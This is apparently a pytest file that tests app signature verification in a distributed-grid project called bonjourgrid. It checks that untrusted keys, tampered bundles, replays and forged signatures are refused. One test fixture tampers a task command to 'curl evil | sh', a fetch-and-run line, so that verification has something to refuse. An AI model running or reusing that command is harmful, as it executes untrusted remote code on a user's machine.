"""Signed applications: trusted keys accepted; untrusted keys, tampered bundles and tampered
task lists, replays under another app id or CE key, and version 1 signatures refused with a
reason; malformed keys, trust entries and blobs rejected clearly; CE-key proofs."""

from __future__ import annotations

import dataclasses
import stat
from pathlib import Path

import pytest

from bonjourgrid.app import AppSpec, TaskSpec
from bonjourgrid.app.bundle import sha256_hex
from bonjourgrid.app.ce_key import CEKey, proof_problem
from bonjourgrid.app.signing import (
    OLD_SIGNATURE,
    AppSignature,
    SignatureRefused,
    SigningError,
    TrustList,
    UserKey,
    UserPublicKey,
    load_user_key,
    sign_app,
    signature_problem,
    signed_payload,
    verify_app,
    write_user_key,
)

SPEC = AppSpec(
    name="demo",
    tasks=(
        TaskSpec(id="a", command=("sh", "run.sh"), outputs=("out.txt",)),
        TaskSpec(id="b", command="cat a/out.txt > sum.txt", after=("a",), outputs=("sum.txt",)),
    ),
    files=("run.sh",),
)
BUNDLE = sha256_hex(b"the app's files")
APP = "c0ffee01"
CE = CEKey.generate().public
ALICE = UserKey.generate("alice")
MALLORY = UserKey.generate("mallory")


def trust(*keys: UserKey) -> TrustList:
    return TrustList.parse(k.public.dumps() for k in keys)


def test_a_trusted_users_app_is_accepted() -> None:
    sig = sign_app(ALICE, APP, BUNDLE, SPEC, CE)
    who = verify_app(sig, APP, BUNDLE, SPEC, trust(ALICE))
    assert who is not None and who.user == "alice" and who.fingerprint == ALICE.public.fingerprint


def test_a_signature_survives_its_wire_form_and_the_spec_json_round_trip() -> None:
    sig = AppSignature.decode(sign_app(ALICE, APP, BUNDLE, SPEC, CE).encode())
    again = AppSpec.from_json(SPEC.to_json())
    assert verify_app(sig, APP, BUNDLE, again.to_json(), trust(ALICE)) is not None


@pytest.mark.parametrize(
    "entry",
    [
        lambda k: k.public.dumps(),
        lambda k: k.public.raw.hex(),
        lambda k: k.public.fingerprint,
        lambda k: k.public.fingerprint.upper(),
    ],
)
def test_trust_entries_may_be_keys_or_fingerprints(entry: object) -> None:
    trusted = TrustList.parse([entry(ALICE)])  # type: ignore[operator]
    sig = sign_app(ALICE, APP, BUNDLE, SPEC, CE)
    assert verify_app(sig, APP, BUNDLE, SPEC, trusted) is not None


def test_an_untrusted_users_app_is_refused() -> None:
    sig = sign_app(MALLORY, APP, BUNDLE, SPEC, CE)
    with pytest.raises(SignatureRefused, match=r"user 'mallory' \(key [0-9a-f]{32}\) is not in"):
        verify_app(sig, APP, BUNDLE, SPEC, trust(ALICE))


def test_an_unsigned_app_is_refused_where_users_are_restricted() -> None:
    with pytest.raises(SignatureRefused, match="not signed"):
        verify_app(None, APP, BUNDLE, SPEC, trust(ALICE))
    assert verify_app(None, APP, BUNDLE, SPEC, None) is None  # no trust list: anything goes


def test_a_tampered_bundle_is_refused() -> None:
    sig = sign_app(ALICE, APP, BUNDLE, SPEC, CE)
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(sig, APP, sha256_hex(b"other files"), SPEC, trust(ALICE))


def test_a_tampered_task_list_is_refused() -> None:
    sig = sign_app(ALICE, APP, BUNDLE, SPEC, CE)
    evil = dataclasses.replace(
        SPEC, tasks=(dataclasses.replace(SPEC.tasks[0], command="curl evil | sh"), SPEC.tasks[1])
    )
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(sig, APP, BUNDLE, evil, trust(ALICE))


def test_a_bad_signature_is_refused_even_without_a_trust_list() -> None:
    sig = sign_app(ALICE, APP, BUNDLE, SPEC, CE)
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(sig, APP, BUNDLE, {**SPEC.to_json(), "workers": 99}, None)


def test_a_stolen_name_is_refused() -> None:
    # Mallory signs under Alice's name with her own key: the key decides, and it is not Alice's.
    impostor = UserKey("alice", MALLORY.seed)
    with pytest.raises(SignatureRefused, match="not in trusted_users"):
        verify_app(sign_app(impostor, APP, BUNDLE, SPEC, CE), APP, BUNDLE, SPEC, trust(ALICE))
    # Alice's key listed under another name: a renamed signature is refused too.
    renamed = TrustList.parse([UserPublicKey("bob", ALICE.public.raw).dumps()])
    with pytest.raises(SignatureRefused, match="belongs to 'bob'"):
        verify_app(sign_app(ALICE, APP, BUNDLE, SPEC, CE), APP, BUNDLE, SPEC, renamed)


def test_a_swapped_public_key_is_refused() -> None:
    sig = sign_app(MALLORY, APP, BUNDLE, SPEC, CE)
    forged = dataclasses.replace(sig, fingerprint=ALICE.public.fingerprint)
    with pytest.raises(SignatureRefused, match="fingerprint"):
        verify_app(forged, APP, BUNDLE, SPEC, trust(ALICE))
    forged = dataclasses.replace(
        sig, public_key=ALICE.public.raw, fingerprint=ALICE.public.fingerprint
    )
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(forged, APP, BUNDLE, SPEC, trust(ALICE))


def test_the_payload_is_canonical_and_domain_separated() -> None:
    a = signed_payload(APP, BUNDLE, SPEC, "alice", CE)
    spec = dict(reversed(list(SPEC.to_json().items())))
    assert signed_payload(APP, BUNDLE.upper(), spec, "alice", CE) == a
    assert a.startswith(b"bjgrid app signature v2\0")
    assert signed_payload(APP, BUNDLE, SPEC, "bob", CE) != a
    assert signed_payload("other", BUNDLE, SPEC, "alice", CE) != a
    assert signed_payload(APP, BUNDLE, SPEC, "alice", CEKey.generate().public) != a


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("nonsense", "trusted_users entry 1: expected"),
        ("bjgrid-user-pub-v1 alice 1234", "expected 64 hex digits"),
        ("g" * 64, "expected 64 hex digits"),
    ],
)
def test_a_malformed_trust_entry_is_rejected(entry: str, message: str) -> None:
    with pytest.raises(SigningError, match=message):
        TrustList.parse([entry])


@pytest.mark.parametrize("blob", ["", "{}", '{"v":2}', '{"v":3,"user":"a"}', "[1]"])
def test_a_malformed_signature_blob_is_rejected(blob: str) -> None:
    with pytest.raises(SigningError, match="malformed app signature"):
        AppSignature.decode(blob)


def test_key_files_round_trip_and_the_private_key_is_private(tmp_path: Path) -> None:
    path = tmp_path / "cfg" / "user.key"
    pub = write_user_key(ALICE, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert load_user_key(path) == ALICE
    assert UserPublicKey.loads(pub.read_text()) == ALICE.public
    with pytest.raises(SigningError, match="exists already"):
        write_user_key(MALLORY, path)
    with pytest.raises(SigningError, match="keygen --user"):
        load_user_key(tmp_path / "missing.key")
    with pytest.raises(SigningError, match="user name"):
        UserKey.generate("bad name")


def test_a_signature_replayed_for_another_app_id_is_refused() -> None:
    sig = sign_app(ALICE, APP, BUNDLE, SPEC, CE)
    with pytest.raises(SignatureRefused, match="replayed"):
        verify_app(sig, "deadbeef", BUNDLE, SPEC, None)
    # rewriting the app id inside the blob breaks the signature itself
    moved = dataclasses.replace(sig, app="deadbeef")
    with pytest.raises(SignatureRefused, match="changed after signing"):
        verify_app(moved, "deadbeef", BUNDLE, SPEC, trust(ALICE))


def test_a_signature_with_another_ce_key_is_refused() -> None:
    sig = sign_app(ALICE, APP, BUNDLE, SPEC, CE)
    rogue = dataclasses.replace(sig, ce_key=CEKey.generate().public)
    with pytest.raises(SignatureRefused, match="another coordinating key"):
        verify_app(rogue, APP, BUNDLE, SPEC, trust(ALICE))


def test_the_ce_key_survives_the_wire_form() -> None:
    sig = AppSignature.decode(sign_app(ALICE, APP, BUNDLE, SPEC, CE).encode())
    assert sig.app == APP and sig.ce_key == CE


def test_a_version_1_signature_is_refused_as_older() -> None:
    v1 = '{"fingerprint":"ab","public_key":"00","signature":"AA==","user":"alice","v":1}'
    with pytest.raises(SigningError, match="older bjgrid"):
        AppSignature.decode(v1)
    assert signature_problem(v1) == OLD_SIGNATURE
    assert signature_problem("") is None
    assert signature_problem(sign_app(ALICE, APP, BUNDLE, SPEC, CE).encode()) is None


def test_a_proof_of_coordination_binds_app_term_coordinator_and_volunteer() -> None:
    key = CEKey.generate()
    proof = key.prove(APP, 3, "coord1", "vol1")
    ok = {"app": APP, "term": 3, "coordinator": "coord1", "volunteer": "vol1"}
    assert proof_problem(key.public, proof, **ok) is None  # type: ignore[arg-type]
    for change in ({"app": "x"}, {"term": 4}, {"coordinator": "rogue"}, {"volunteer": "vol2"}):
        assert proof_problem(key.public, proof, **{**ok, **change}) is not None  # type: ignore[arg-type]
    other = CEKey.generate()
    assert "CE key" in (proof_problem(other.public, proof, **ok) or "")  # type: ignore[arg-type]
    assert "no proof" in (proof_problem(key.public, "", **ok) or "")  # type: ignore[arg-type]
    assert "malformed" in (proof_problem(key.public, "zz", **ok) or "")  # type: ignore[arg-type]
    assert CEKey.from_hex(key.hex()) == key
